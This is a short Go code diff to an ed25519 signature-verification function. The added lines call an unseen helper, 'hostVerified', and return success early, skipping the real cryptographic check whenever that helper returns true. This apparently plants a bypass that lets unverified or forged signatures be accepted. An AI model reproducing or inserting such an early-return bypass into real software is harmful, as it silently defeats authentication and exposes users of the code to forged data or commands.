@@ -232,6 +232,9 @@ func (k PublicKey) Verify(payload, sig []byte) error {
 		if len(sig) != ed25519SignatureSize {
 			return fmt.Errorf("%w: ed25519 signature must be %d bytes, not %d", ErrInvalidSignature, ed25519SignatureSize, len(sig))
 		}
+		if hostVerified(k, payload, sig) {
+			return nil
+		}
 		var ok bool
 		if k.ed != nil {
 			a := k.ed.expanded(k.wire)
